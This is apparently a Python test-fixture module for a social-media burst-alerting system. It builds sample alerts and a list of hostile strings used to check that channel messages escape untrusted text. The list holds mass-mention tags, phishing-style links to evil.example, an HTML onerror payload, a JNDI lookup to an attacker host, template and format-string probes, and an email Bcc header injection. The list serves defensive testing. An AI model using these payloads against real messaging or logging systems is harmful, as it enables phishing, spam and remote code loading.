"""Alerts for tests of channels: an ordinary one, and words that strangers could write to deceive."""

from __future__ import annotations

from typing import Any, Final

import msgspec
from hypothesis import strategies as st

from stream.contract.ports import Telling
from stream.contract.records import Evidence, Flip, WindowScore

AT_MS: Final = 1_700_000_000_000
HOSTILE: Final = (
    '<at user_id="all">所有人</at>', "<at id=all></at>", "@all 快看", "@所有人", "<!channel> <!here> <@U123>",
    "<@everyone>", "[点我](https://evil.example/x)", "![](https://evil.example/p.png)", "https://evil.example/a?b=c",
    "www.evil.example", "evil.example/login", "<https://evil.example|内部链接>", "<a href='https://evil.example'>x</a>",
    "<img src=x onerror=y>", "<font color=red>x</font>", "**粗** _斜_ ~~删~~ `码`", "# 标题", "> 引用", "\\",
    "\\[x\\](y)", "&lt;at user_id=all&gt;", "&#60;!channel&#62;", "行一\n行二\r\n# 行三\n---\n| a | b |",
    "\x1b[31m红\x1b[0m \x9b31m", "\u202e倒过来\u2066x\u2069\u200f", "零\u200b宽\ufeff字", "\x00\x07\x7f",
    "\u2028行\u2029段", "]]>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%(x)s %n",
    "Subject: x\r\nBcc: y@evil.example", "13800138000 @13800138000",
)  # fmt: skip
WINDOW: Final = WindowScore(
    window_ms=3_600_000, observed=42, expected=3.2, dispersion=0.3, score=12_345, lift=13.125, lift_low=7.0,
    mentions=60, authors=45, effective_authors=40.0, reposts=5, image_only=2, engagement=99, baseline_windows=100,
)  # fmt: skip


def evidence(excerpt: str, number: int = 0) -> Evidence:
    return Evidence(
        post_id=f"weibo:{number}", author="a1", created_ms=AT_MS - 60_000 * number, source="jsonl:x", surface="上海",
        excerpt=excerpt, weight=1,
    )  # fmt: skip


def alert(**changes: Any) -> Flip:
    """A burst that fires, as Judge makes it."""
    flip = Flip(
        id="0123456789abcdef01234567-0", incident_id="0123456789abcdef01234567", sequence=0, rule_id="org-burst",
        rule_version=3, rule_kind="burst", state="firing", severity="warning", entity="LOC/上海", type="LOC",
        surface="上海", at_ms=AT_MS, first_ms=AT_MS - 300_000, window=WINDOW,
        reason="42 against 3.20 expected, 13.1 times the usual", first_seen_ms=1, tests=10, threshold=5.0,
        total_posts=1000, evidence=(evidence("上海今天下雨了", 1), evidence("上海的雨", 2)), labels={"team": "pr"},
    )  # fmt: skip
    return msgspec.structs.replace(flip, **changes)


def telling(*flips: Flip, repeated: bool = False) -> Telling:
    """A message of ``flips``, as it is made of the outbox."""
    return Telling(flips[0].id if len(flips) == 1 else "digest", flips, repeated)


def hostile(text: str, **changes: Any) -> Flip:
    """An alert in which everything that strangers write is ``text``."""
    posts = tuple(evidence(text, number) for number in range(3))
    return alert(surface=text, entity=f"PER/{text}", evidence=posts, **changes)


TEXTS: Final = st.one_of(
    st.text(max_size=400),
    st.lists(st.sampled_from(HOSTILE), max_size=12).map("".join),
    st.lists(st.sampled_from([*"[]()<>@!#*_`~|\\&.:/\n\r上a1 ", "://", "www.", "at "]), max_size=300).map("".join),
)
"""Whatever a surface or an excerpt may hold."""
